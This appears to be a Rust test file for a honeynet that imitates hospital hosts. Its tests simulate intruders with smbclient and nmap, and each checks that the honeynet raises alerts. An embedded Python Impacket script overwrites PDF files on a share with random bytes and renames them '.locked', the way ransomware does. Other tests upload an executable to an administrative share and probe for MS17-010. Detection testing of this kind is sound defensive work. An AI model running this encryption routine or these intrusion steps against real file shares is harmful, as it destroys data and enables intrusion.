//! File shares under clients that were not written here.

use std::collections::BTreeSet;
use std::fs;
use std::time::Duration;

use serde_json::Value;

use crate::honeynet::{Honeynet, client, text, within};
use crate::truth;

const HISDB: [(&str, u8); 1] = [("hisdb", 18)];

fn password(net: &Honeynet, host: &str, account: &str) -> String {
    let config = net.scratch("honeynet.toml");
    let lures = net.json(&["lure", "list", "--json", "--config", config.to_str().unwrap()]);
    let of = |lure: &&Value| lure["host"] == host && lure["account"] == account;
    lures.iter().find(of).unwrap()["password"].as_str().unwrap().to_owned()
}

/// What smbclient says to commands on a share.
fn smbclient(net: &Honeynet, host: &str, share: &str, login: &str, more: &[&str], commands: &str) -> String {
    let address = net.address(host, "smb");
    let (ip, port) = (address.ip().to_string(), address.port().to_string());
    let service = format!("//{ip}/{share}");
    let mut arguments = vec![service.as_str(), "-p", &port, "-U", login, "-t", "30"];
    arguments.extend(more);
    arguments.extend(["-c", commands]);
    text(&client("smbclient", "smbclient", &arguments))
}

#[test]
fn shares_are_listed_and_files_read_in_every_dialect() {
    let net = Honeynet::of(&HISDB, "");
    let login = format!("hisbak%{}", password(&net, "hisdb", "hisbak"));
    let folder = net.scratch("");
    for (protocol, signing) in [
        ("SMB2_02", "off"),
        ("SMB2_10", "required"),
        ("SMB3_00", "required"),
        ("SMB3_02", "off"),
        ("SMB3_11", "required"),
    ] {
        let fetched = folder.join(protocol);
        let said = smbclient(
            &net,
            "hisdb",
            "HISBAK",
            &login,
            // A server of 3.0.2 is met by a client of 3.1.1 below it.
            &["-m", protocol, "--client-protection", if signing == "off" { "off" } else { "sign" }],
            &format!(r"cd 脚本; ls; get check_backup.sql {}", fetched.display()),
        );
        assert!(said.contains("check_backup.sql"), "{protocol}: {said}");
        let bytes = fs::read(&fetched).unwrap_or_else(|error| panic!("{protocol}: {error}: {said}"));
        assert!(bytes.starts_with(b"-- "), "{protocol}");
    }
    let address = net.address("hisdb", "smb");
    let (ip, port) = (address.ip().to_string(), address.port().to_string());
    let said = text(&client("smbclient", "smbclient", &["-L", &ip, "-p", &port, "-U", &login]));
    for share in ["ADMIN$", "C$", "HISBAK", "HISUpdate", "IPC$"] {
        assert!(said.contains(share), "{said}");
    }
    assert!(said.contains("HIS数据库备份"), "{said}");
    let said = smbclient(&net, "hisdb", "HISBAK", "administrator%x", &[], "ls");
    assert!(said.contains("NT_STATUS_LOGON_FAILURE"), "{said}");
}

#[test]
fn what_is_put_is_kept_and_only_the_intruder_s() {
    let net = Honeynet::of(&HISDB, "");
    let login = format!("hisbak%{}", password(&net, "hisdb", "hisbak"));
    let tool = net.scratch("tool.exe");
    let mut program = b"MZ\x90\x00".to_vec();
    program.resize(300_000, 0x41);
    // Where the new header is, and the header.
    program[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    program[0x80..0x84].copy_from_slice(b"PE\0\0");
    fs::write(&tool, &program).unwrap();
    let back = net.scratch("back.exe");
    let commands = format!(
        r"cd Temp; put {} tool.exe; rename tool.exe svc.exe; mkdir x; rmdir x; allinfo svc.exe; get svc.exe {}; del svc.exe; ls",
        tool.display(),
        back.display()
    );
    let said = smbclient(&net, "hisdb", "ADMIN$", &login, &[], &commands);
    assert!(said.contains("write_time"), "{said}");
    assert!(fs::read(&back).unwrap() == program, "{said}");
    let listed = said.split("stream:").nth(1).unwrap_or_default();
    assert!(!listed.lines().any(|line| line.starts_with("  svc.exe")), "{said}");
    let sessions = net.sessions(1, |s| s["service"] == "smb" && !s["closed"].is_null());
    let shown = text(&net.honeyward(&["show", sessions[0]["id"].as_str().unwrap()]));
    for told in ["svc.exe", "RENAME", "DELETE", "portable-executable"] {
        assert!(shown.contains(told), "{told}: {shown}");
    }
    reasons(&net, &["an account that exists only as bait", "copied a program"]);
}

/// Waits until the alerts of the one incident give all these reasons.
fn reasons(net: &Honeynet, wanted: &[&str]) {
    within(Duration::from_secs(20), &format!("{wanted:?}"), || {
        let alerts = net.json(&["alerts", "--json"]);
        let ids: BTreeSet<&str> = alerts.iter().map(|alert| alert["id"].as_str().unwrap()).collect();
        assert!(ids.len() <= 1, "{alerts:?}");
        let reasons = alerts.iter().flat_map(|alert| alert["reasons"].as_array().unwrap());
        let told: Vec<&str> = reasons.map(|reason| reason["en"].as_str().unwrap()).collect();
        wanted.iter().all(|wanted| told.iter().any(|told| told.contains(wanted))).then_some(())
    });
}

/// Impacket, the second stack: it goes through a folder as ransomware does.
const ENCRYPTS: &str = "
import os, sys
from impacket.smbconnection import SMBConnection
ip, port, password = sys.argv[1:]
link = SMBConnection('CLZX-RIS01', ip, sess_port=int(port))
link.login('risfile', password)
print('dialect %x' % link.getDialect(), link.getServerName(), link.getServerOS())
month = sorted(e.get_longname() for e in link.listPath('Report', '*') if e.get_longname().isdigit())[-2]
day = sorted(e.get_longname() for e in link.listPath('Report', month + '\\\\*') if e.get_longname().isdigit())[-1]
folder = month + '\\\\' + day + '\\\\'
names = [e.get_longname() for e in link.listPath('Report', folder + '*.pdf')]
assert len(names) > 10, names
for number, name in enumerate(names[:4]):
    read = []
    link.getFile('Report', folder + name, read.append)
    plain = b''.join(read)
    assert plain.startswith(b'%PDF'), name
    tree = link.connectTree('Report')
    file = link.openFile(tree, folder + name)
    link.writeFile(tree, file, os.urandom(max(len(plain), 8192)))
    link.closeFile(tree, file)
    link.rename('Report', folder + name, folder + name + '.locked')
    link.disconnectTree(tree)
again = [e.get_longname() for e in link.listPath('Report', folder + '*.locked')]
assert len(again) == 4, again
link.logoff()
print('all encrypted')
";

#[test]
fn encryption_of_a_share_is_told_before_the_fifth_file() {
    let net = Honeynet::of(&[("ris", 16)], "");
    let address = net.address("ris", "smb");
    let (ip, port) = (address.ip().to_string(), address.port().to_string());
    let password = password(&net, "ris", "risfile");
    let said =
        text(&client("/usr/bin/python3", "python3-impacket", &["-c", ENCRYPTS, &ip, &port, &password]));
    assert!(said.contains("all encrypted"), "{said}");
    within(Duration::from_secs(20), "the alert", || {
        let alerts = net.json(&["alerts", "--json"]);
        alerts.iter().any(|alert| alert["rule"] == "HW-RANSOM").then_some(())
    });
    reasons(&net, &["as ransomware does"]);
}

#[test]
fn images_on_a_console_s_share_are_those_of_the_archive() {
    let net = Honeynet::of(&[("ct01", 21)], "");
    let view = truth::view(&net);
    let rows = truth::listed(&net, "studies", 3);
    let row = rows.iter().find(|row| row["modality"] == "CT").expect("a CT in three days");
    let study = view.study(row["uid"].as_str().unwrap()).unwrap();
    let day = view.local(study.started).date().strftime("%Y%m%d").to_string();
    let fetched = net.scratch("image.dcm");
    let said =
        smbclient(&net, "ct01", "DicomExport", "guest%", &[], &format!("cd {day}; ls {}*", study.accession));
    let name = said.split_whitespace().find(|word| word.starts_with(&study.accession));
    let name = name.unwrap_or_else(|| panic!("{said}"));
    let commands = format!(r"get {day}\{name}\IM00001.dcm {}", fetched.display());
    let said = smbclient(&net, "ct01", "DicomExport", "guest%", &[], &commands);
    let bytes = fs::read(&fetched).unwrap_or_else(|error| panic!("{error}: {said}"));
    assert_eq!(&bytes[128..132], b"DICM");
    let dumped = text(&client("dcmdump", "dcmtk", &["+P", "StudyInstanceUID", fetched.to_str().unwrap()]));
    assert!(dumped.contains(&study.uid), "{dumped}");
}

/// nmap's scripts against a host's file sharing.
fn nmap(net: &Honeynet, host: &str, scripts: &str) -> String {
    let address = net.address(host, "smb");
    let (ip, port) = (address.ip().to_string(), address.port().to_string());
    let scripts = format!("--script={scripts}");
    let ports = format!("-p{port}");
    // Its scripts know 445; at another port they ask what was detected.
    let detects = if port == "445" { "-sT" } else { "-sTV" };
    text(&client("nmap", "nmap", &["-n", "-Pn", detects, &ports, &scripts, &ip]))
}

#[test]
fn nmap_names_the_host_and_finds_what_was_not_updated() {
    let net = Honeynet::of(&[("hisdb", 18), ("heme01", 31)], "");
    let said = nmap(&net, "hisdb", "smb-protocols,smb2-security-mode,smb2-time,smb2-capabilities");
    for word in ["302", "Message signing enabled but not required", "start_date: 20"] {
        assert!(said.contains(word), "{word}: {said}");
    }
    let said = nmap(&net, "heme01", "smb-os-discovery,smb-vuln-ms17-010,smb-protocols,smb-security-mode");
    for word in ["Windows 7 Professional 7601 Service Pack 1", "XN-1000-IPU", "VULNERABLE", "NT LM 0.12"] {
        assert!(said.contains(word), "{word}: {said}");
    }
    within(Duration::from_secs(20), "the probe", || {
        let alerts = net.json(&["alerts", "--json"]);
        alerts.iter().any(|alert| alert["rule"] == "HW-EXPLOIT").then_some(())
    });
}
